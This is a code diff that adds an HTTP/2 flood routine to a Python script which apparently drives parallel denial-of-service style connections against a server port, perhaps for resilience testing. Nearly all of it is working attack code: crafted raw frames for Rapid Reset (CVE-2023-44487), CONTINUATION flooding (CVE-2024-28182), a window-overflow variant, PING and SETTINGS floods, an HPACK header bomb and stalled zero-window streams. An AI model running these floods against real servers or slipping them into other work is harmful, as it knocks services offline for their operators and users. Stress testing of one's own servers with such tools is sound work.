@@ -207,10 +207,74 @@ def handshakes(options):
     return in_parallel(options["count"], attack)
 
 
+# The kinds of frames of HTTP/2 that are sent here (RFC 9113 6).
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def head(stream, path, flags=5):
+    """A request for `path`: by its flags complete with this frame."""
+    text = path.encode()
+    return frame(HEADERS, flags, stream, b"\x82\x87\x01\x05palco\x04" + bytes([len(text)]) + text)
+
+
+def flood(number, path):
+    """What is sent at first, and what is sent in each turn, by its number from 1."""
+    odd = range(1, 1 << 20, 2)
+    waiting = head(1, path, flags=4)
+    kinds = [
+        # CVE-2023-44487
+        (b"", lambda turn: head(odd[turn], path) + frame(RST_STREAM, 0, odd[turn], bytes(4))),
+        # CVE-2025-8671: the window of a stream is opened beyond its end.
+        (b"", lambda turn: head(odd[turn], path) + frame(WINDOW_UPDATE, 0, odd[turn], b"\x7f\xff\xff\xff")),
+        (b"", lambda turn: frame(PING, payload=bytes(8))),
+        (b"", lambda turn: frame(SETTINGS, payload=struct.pack(">HI", 4, 1 << 16))),
+        (waiting, lambda turn: frame(DATA, 0, 1)),
+        (waiting, lambda turn: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")),
+        # CVE-2024-28182
+        (head(1, path, flags=0), lambda turn: frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100)),
+        # One field of 4,000 bytes, and each byte after it means the whole field.
+        (b"", lambda turn: bomb(odd[turn], path, turn == 1)),
+    ]
+    return kinds[number % len(kinds)]
+
+
+def bomb(stream, path, is_first):
+    text = path.encode()
+    block = b"\x82\x87\x01\x05palco\x04" + bytes([len(text)]) + text
+    if is_first:
+        block += b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000
+    return frame(HEADERS, 5, stream, block + b"\xbe" * 8000)
+
+
+def floods(options):
+    """Frames of HTTP/2 that cost their sender little; and peers that ask for much and leave all windows shut."""
+    hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+    path = options["segment"]
+
+    def attack(number):
+        connection = secured(connect(options["port"], number), ["h2"])
+        if number % 9 == 8:
+            connection.sendall(hello + frame(SETTINGS, payload=struct.pack(">HI", 4, 0)))
+            connection.sendall(b"".join(head(stream, path) for stream in range(1, 200, 2)))
+            return connection
+        before, turns = flood(number, path)
+        connection.sendall(hello + frame(SETTINGS) + before)
+        for first in range(1, 4000, 100):
+            connection.sendall(b"".join(turns(turn) for turn in range(first, first + 100)))
+        connection.close()
+        return None
+
+    return in_parallel(options["count"], attack)
+
+
 def main(kind, options):
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
-    kinds = [silence, churn, halves, deafness, garbage, handshakes]
+    kinds = [silence, churn, halves, deafness, garbage, handshakes, floods]
     made, kept = next(each for each in kinds if each.__name__ == kind)(options)
     print(json.dumps({"made": made, "held": len(kept)}), flush=True)
     select.select([sys.stdin], [], [])
